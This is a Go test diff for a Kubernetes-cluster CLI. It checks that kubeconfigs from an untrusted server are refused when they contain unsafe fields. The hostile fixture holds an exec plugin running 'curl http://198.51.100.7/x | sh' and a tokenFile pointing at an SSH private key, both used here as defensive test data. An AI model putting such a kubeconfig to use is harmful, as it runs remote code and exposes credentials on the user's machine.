@@ -277,3 +277,123 @@ func TestStoppedEarlyByCtrlCIsAnInterruption(t *testing.T) {
 		t.Errorf("--timeout: %v", err)
 	}
 }
+
+// A kubeconfig from a hostile MCKS server: every field beyond inline data is
+// refused by name for --merge, --file and --raw, and the user's kubeconfig is
+// untouched; --dry-run -o yaml shows it (keys redacted) and writes nothing;
+// --allow-unsafe-fields writes it.
+func TestKubeconfigFromTheAPIIsUntrusted(t *testing.T) {
+	srv := mckstest.New(t)
+	srv.AddCluster("default", sampleReq("c1"))
+	t.Setenv(mcks.ServerEnv, srv.URL())
+	dir := t.TempDir()
+	kc := filepath.Join(dir, "config")
+	if r := run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--context-name", "mine"); r.code != 0 {
+		t.Fatalf("clean merge: exit %d %q", r.code, r.stderr)
+	}
+	before, _ := os.ReadFile(kc)
+	keyB64 := base64.StdEncoding.EncodeToString([]byte(mckstest.ClientKeyMarker + "-of-c1"))
+	hostile := `apiVersion: v1
+kind: Config
+clusters:
+- name: kubernetes
+  cluster:
+    server: https://203.0.113.9:6443
+    certificate-authority-data: Y2E=
+    proxy-url: http://198.51.100.7:3128
+    insecure-skip-tls-verify: true
+contexts:
+- name: kubernetes-admin@kubernetes
+  context: {cluster: kubernetes, user: kubernetes-admin}
+current-context: kubernetes-admin@kubernetes
+users:
+- name: kubernetes-admin
+  user:
+    client-key-data: ` + keyB64 + `
+    client-certificate-data: Y2VydA==
+    tokenFile: /home/user/.ssh/id_rsa
+    exec:
+      apiVersion: client.authentication.k8s.io/v1
+      command: /bin/sh
+      args: ["-c", "curl http://198.51.100.7/x | sh"]
+`
+	srv.SetKubeconfig("default", "c1", hostile)
+	fields := []string{`": insecure-skip-tls-verify`, `": proxy-url`, `-admin": tokenFile`, `-admin": exec`}
+	for _, args := range [][]string{
+		{"--merge", "--kubeconfig", kc},
+		{"--merge", "--kubeconfig", kc, "--overwrite", "--context-name", "mine"},
+		{"--file", filepath.Join(dir, "c1.kubeconfig")},
+		{"--raw"},
+	} {
+		r := run(t, append([]string{"kubeconfig", "c1"}, args...)...)
+		if r.code != 1 || len(strings.Split(strings.TrimSpace(r.stderr), "\n")) != 1 || r.stdout != "" {
+			t.Errorf("%v: exit %d, stdout %q, stderr %q: want exit 1 and one error line", args, r.code, r.stdout, r.stderr)
+		}
+		for _, f := range fields {
+			if !strings.Contains(r.stderr, f) {
+				t.Errorf("%v: the error does not name %s: %q", args, f, r.stderr)
+			}
+		}
+		noSecrets(t, strings.Join(args, " "), r)
+	}
+	if after, _ := os.ReadFile(kc); string(after) != string(before) {
+		t.Error("a refused merge changed the kubeconfig")
+	}
+	if _, err := os.Stat(filepath.Join(dir, "c1.kubeconfig")); err == nil {
+		t.Error("a refused --file wrote the file")
+	}
+
+	// --dry-run shows what would be written, keys redacted, and writes nothing.
+	r := run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--dry-run", "-o", "yaml")
+	if r.code != 0 || !strings.Contains(r.stdout, "proxy-url: http://198.51.100.7:3128") || !strings.Contains(r.stdout, "command: /bin/sh") ||
+		!strings.Contains(r.stderr, "--allow-unsafe-fields") || !strings.Contains(r.stderr, "nothing was written") {
+		t.Errorf("--dry-run: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
+	}
+	noSecrets(t, "--dry-run", r)
+	if r := run(t, "kubeconfig", "c1", "--merge", "--dry-run", "-o", "json", "--kubeconfig", kc); r.code != 0 || !strings.Contains(r.stdout, `"proxy-url": "http://198.51.100.7:3128"`) {
+		t.Errorf("--dry-run -o json: exit %d\n%s%s", r.code, r.stdout, r.stderr)
+	}
+	if after, _ := os.ReadFile(kc); string(after) != string(before) {
+		t.Error("--dry-run changed the kubeconfig")
+	}
+	// The redacted print only shows them, with a warning.
+	if r := run(t, "kubeconfig", "c1"); r.code != 0 || !strings.Contains(r.stderr, "Warning:") || !strings.Contains(r.stderr, `user "c1-admin": exec`) {
+		t.Errorf("print: exit %d %q", r.code, r.stderr)
+	}
+	if r := run(t, "kubeconfig", "c1", "-o", "xml"); r.code != 2 || !strings.Contains(r.stderr, `"xml"`) {
+		t.Errorf("-o xml: exit %d %q", r.code, r.stderr)
+	}
+
+	// The user looked, and accepts it.
+	r = run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--allow-unsafe-fields")
+	if r.code != 0 || !strings.Contains(r.stderr, "--allow-unsafe-fields") {
+		t.Fatalf("--allow-unsafe-fields: exit %d %q", r.code, r.stderr)
+	}
+	cfg, err := clientcmd.LoadFromFile(kc)
+	if err != nil || cfg.AuthInfos["c1-admin"].Exec == nil || cfg.Clusters["c1"].ProxyURL == "" || cfg.Contexts["mine"] == nil {
+		t.Errorf("merged with --allow-unsafe-fields: %v %+v", err, cfg)
+	}
+
+	// A server that is not https.
+	srv.SetKubeconfig("default", "c1", strings.Replace(strings.Split(hostile, "    proxy-url")[0], "https://", "http://", 1)+
+		"contexts:\n- name: k\n  context: {cluster: kubernetes, user: kubernetes-admin}\ncurrent-context: k\nusers:\n- name: kubernetes-admin\n  user: {token: abcdefgh}\n")
+	if r := run(t, "kubeconfig", "c1", "--file", filepath.Join(dir, "plain")); r.code != 1 || !strings.Contains(r.stderr, `server "http://203.0.113.9:6443" is not https`) {
+		t.Errorf("http server: exit %d %q", r.code, r.stderr)
+	}
+}
+
+// The admin kubeconfig fetched over plain HTTP from another machine is
+// reported; over loopback it is not.
+func TestKubeconfigOverPlainHTTPWarns(t *testing.T) {
+	var b strings.Builder
+	for _, s := range []string{"http://127.0.0.1:1470/mcks", "http://localhost:1470/mcks", "http://[::1]:1470/mcks", "https://mcks.example:1470/mcks"} {
+		warnPlainHTTP(&b, s)
+	}
+	if b.Len() != 0 {
+		t.Errorf("loopback or https warned: %q", b.String())
+	}
+	warnPlainHTTP(&b, "http://10.0.0.8:1470/mcks")
+	if got := b.String(); strings.Count(got, "\n") != 1 || !strings.Contains(got, "10.0.0.8:1470") || !strings.Contains(got, "plain HTTP") {
+		t.Errorf("warning %q", got)
+	}
+}
